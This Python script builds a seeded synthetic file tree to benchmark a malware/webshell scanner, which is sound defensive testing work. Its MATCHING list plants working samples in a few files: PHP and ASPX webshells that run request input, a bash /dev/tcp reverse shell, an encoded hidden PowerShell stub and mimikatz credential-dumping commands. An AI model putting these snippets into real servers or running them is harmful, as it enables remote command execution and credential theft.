#!/usr/bin/env python3
"""mkscantree.py DIR [MIB] [FILES] - a reproducible tree for the `seawall scan` benchmark.

The same seed gives the same bytes on every machine: FILES files (default 3,894) in nested
folders, MIB MiB in all (default 64), of the kinds a file server of a town hall holds: web
pages, PHP and JavaScript, configuration and logs, office-like ZIP containers, PDFs, PE and
ELF executables, images, compressed archives. A few files (one in about 500) carry what
public webshell and hack-tool rules look for (an eval of request input, a reverse shell
one-liner), so the run reports some matches; the rest are what a scan mostly sees: files that
match nothing. Prints the total and the files written.
"""
import os
import random
import struct
import sys

WORDS = [b"the", b"council", b"permit", b"street", b"budget", b"meeting", b"parking",
         b"school", b"water", b"tax", b"report", b"minutes", b"public", b"notice", b"road",
         b"library", b"form", b"office", b"hall", b"service", b"2026", b"city", b"park"]
CODE = [b"function", b"return", b"var", b"if", b"else", b"for", b"while", b"$this->",
        b"echo", b"require_once", b"array(", b"null", b"true", b"false", b"=>", b"{", b"}",
        b"document.getElementById", b"console.log", b"let", b"const", b"class", b"new"]


def text(rnd, n, vocab, sep=b" "):
    out = bytearray()
    while len(out) < n:
        out += rnd.choice(vocab) + (b"\n" if rnd.random() < 0.08 else sep)
    return bytes(out[:n])


def binary_body(rnd, n):
    """Code-like bytes: runs of zeros, small integers, short ASCII strings, noise."""
    out = bytearray()
    while len(out) < n:
        k = rnd.random()
        if k < 0.25:
            out += b"\0" * rnd.randint(4, 256)
        elif k < 0.5:
            out += struct.pack("<%dI" % 16, *(rnd.randint(0, 4096) for _ in range(16)))
        elif k < 0.65:
            out += rnd.choice(WORDS + CODE) + b"\0"
        else:
            out += rnd.randbytes(rnd.randint(16, 512))
    return bytes(out[:n])


def make(rnd, kind, n):
    if kind == "html":
        head = b"<html><head><title>" + rnd.choice(WORDS) + b"</title></head><body>\n"
        return head + text(rnd, max(n - len(head) - 15, 0), WORDS + [b"<p>", b"</p>"]) + \
            b"</body></html>\n"
    if kind == "php":
        return b"<?php\n" + text(rnd, max(n - 6, 0), CODE + WORDS)
    if kind == "js":
        return text(rnd, n, CODE)
    if kind == "txt":
        return text(rnd, n, WORDS)
    if kind == "log":
        lines = []
        size = 0
        while size < n:
            ln = b"2026-%02d-%02d 10:%02d:%02d 10.0.%d.%d GET /%s 200\n" % (
                rnd.randint(1, 12), rnd.randint(1, 28), rnd.randint(0, 59), rnd.randint(0, 59),
                rnd.randint(0, 255), rnd.randint(1, 254), rnd.choice(WORDS))
            lines.append(ln)
            size += len(ln)
        return b"".join(lines)[:n]
    if kind == "pe":
        hdr = b"MZ\x90\0" + b"\0" * 56 + struct.pack("<I", 0x80)
        hdr += b"\0" * (0x80 - len(hdr)) + b"PE\0\0" + struct.pack("<HH", 0x8664, 4)
        return hdr + binary_body(rnd, max(n - len(hdr), 0))
    if kind == "elf":
        hdr = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HH", 3, 62)
        return hdr + binary_body(rnd, max(n - len(hdr), 0))
    if kind == "zip":
        return b"PK\x03\x04\x14\0" + rnd.randbytes(max(n - 6, 0))
    if kind == "pdf":
        return b"%PDF-1.7\n" + binary_body(rnd, max(n - 9, 0))
    if kind == "png":
        return b"\x89PNG\r\n\x1a\n" + rnd.randbytes(max(n - 8, 0))
    if kind == "jpg":
        return b"\xff\xd8\xff\xe0" + rnd.randbytes(max(n - 4, 0))
    if kind == "gz":
        return b"\x1f\x8b\x08\0" + rnd.randbytes(max(n - 4, 0))
    raise ValueError(kind)


# kind, extension, share of files, size range in KiB
KINDS = [("html", ".html", 22, (1, 24)), ("php", ".php", 12, (1, 16)), ("js", ".js", 10, (2, 48)),
         ("txt", ".txt", 10, (1, 8)), ("log", ".log", 5, (8, 96)), ("pe", ".exe", 6, (32, 256)),
         ("elf", "", 5, (16, 192)), ("zip", ".docx", 8, (8, 64)), ("pdf", ".pdf", 8, (16, 128)),
         ("png", ".png", 7, (4, 64)), ("jpg", ".jpg", 5, (8, 96)), ("gz", ".gz", 2, (32, 256))]

# What public webshell and hack-tool rules look for, written here from scratch.
MATCHING = [
    b"<?php @eval($_POST['cmd']); ?>\n",
    b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n",
    b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    b"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", "
    b"\"/c \" + Request[\"cmd\"]); %>\n",
    b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA\n",
    b"<?php $c = base64_decode($_GET['x']); eval(gzinflate($c)); ?>\n",
    b"mimikatz # sekurlsa::logonpasswords\nprivilege::debug\n",
    b"<?php echo shell_exec($_GET['cmd']); passthru($_GET['cmd']); ?>\n",
]


def main():
    root = sys.argv[1]
    mib = int(sys.argv[2]) if len(sys.argv) > 2 else 64
    nfiles = int(sys.argv[3]) if len(sys.argv) > 3 else 3894
    rnd = random.Random(13)
    shares = [k[2] for k in KINDS]
    plan = []
    for i in range(nfiles):
        kind = rnd.choices(KINDS, weights=shares)[0]
        lo, hi = kind[3]
        plan.append((kind, rnd.randint(lo * 1024, hi * 1024)))
    # Scale the sizes to the total asked for (every file keeps at least 64 bytes).
    want = mib * 1024 * 1024
    scale = want / sum(s for _, s in plan)
    sizes = [max(64, int(s * scale)) for _, s in plan]
    sizes[-1] += want - sum(sizes)
    total = 0
    for i, ((kind, _), n) in enumerate(zip(plan, sizes)):
        d = os.path.join(root, "d%02d" % (i % 37), "s%d" % (i % 5))
        os.makedirs(d, exist_ok=True)
        data = make(rnd, kind[0], n)
        if i % 487 == 100:
            m = MATCHING[(i // 487) % len(MATCHING)]
            at = rnd.randint(0, max(len(data) - len(m), 0))
            data = data[:at] + m + data[at + len(m):]
        with open(os.path.join(d, "f%05d%s" % (i, kind[1])), "wb") as f:
            f.write(data)
        total += len(data)
    print("%s: %d files, %d bytes" % (root, nfiles, total))


if __name__ == "__main__":
    main()
